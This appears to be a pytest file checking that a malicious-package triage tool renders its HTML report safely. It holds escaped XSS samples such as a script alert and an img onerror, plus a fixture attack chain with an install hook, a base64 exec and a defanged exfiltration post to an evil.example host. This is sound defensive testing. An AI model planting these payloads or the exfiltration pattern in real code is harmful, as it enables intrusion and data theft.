"""HTML: self-contained, every package string escaped and defanged."""

from __future__ import annotations

import re

from tests.render_factory import benign_report, hostile_report, malicious_report
from triage.render.html import render


def test_hostile_strings_are_escaped() -> None:
    page = render(hostile_report())
    assert "<script" not in page.lower()
    assert "<img" not in page.lower()
    assert "<b>" not in page
    # File name (heading, statement ID), code and skipped path all come out as text.
    assert (
        "<h3>1. <code>pkg/&lt;script&gt;alert(1)&lt;/script&gt;|a.py:7-10</code>: "
        "<code>code_execution_install_hook_override</code></h3>"
    ) in page
    assert (
        '<span class="ln">7</span>x = &#x27;[bold red]boom[/]&#x27; # '
        "&lt;/code&gt;&lt;/pre&gt;&lt;script&gt;alert(1)&lt;/script&gt;\n"
    ) in page
    assert "<code>&lt;img src=x onerror=alert(1)&gt;.so</code>" in page
    assert "Uses [red]markup[/red] and &lt;b&gt;html&lt;/b&gt; | pipes." in page


def test_self_contained_no_scripts_no_external_resources() -> None:
    page = render(malicious_report())
    assert page.startswith('<!DOCTYPE html>\n<html lang="en"><head><meta charset="utf-8">')
    assert page.endswith("</body></html>\n")
    assert "default-src 'none'; style-src 'unsafe-inline'" in page
    for needle in ("<script", "src=", "href=", "<link", "@import", "url("):
        assert needle not in page
    assert re.search(r"https?://|evil\.example|discord\.com", page) is None


def test_banner_chain_findings_and_skipped() -> None:
    page = render(malicious_report())
    assert (
        '<header class="banner malicious"><h1>MALICIOUS · score 96.5/100 · evilpkg 1.0.2</h1>'
    ) in page
    assert (
        '<ol class="chain"><li>install → code_execution_install_hook_override (setup.py:10)</li>'
        "<li>install → code_execution_encoded_command (setup.py:12)</li>"
        "<li>install → code_exfiltration_data (setup.py#decoded-1:3)</li></ol>"
    ) in page
    assert (
        '<span class="ln">12</span>        exec(base64.b64decode(\n'
        '<span class="ln">13</span>            &quot;aW1wb3J0IHJlcXVlc3Rz&quot;))</code></pre>'
    ) in page
    assert (
        '<span class="ln">3</span>requests.post(&quot;hxxps://evil[.]example[.]com/collect&quot;'
    ) in page
    assert "Decoded from the literal in statement <code>setup.py:12:0</code>." in page
    assert (
        "<li><code>evilpkg/bin/payload.exe</code>: binary file (PE executable) "
        '<span class="evidence">(evidence)</span></li>'
    ) in page
    assert "<h2>Findings (3)</h2>" in page


def test_benign_report() -> None:
    page = render(benign_report())
    assert '<header class="banner benign"><h1>BENIGN · score 0.0/100 · goodpkg 2.0</h1>' in page
    assert "<p>No malicious statements found.</p>" in page
    assert "<p>Nothing skipped.</p>" in page
    assert "Attack chain" not in page
    assert "1 file analysed" in page
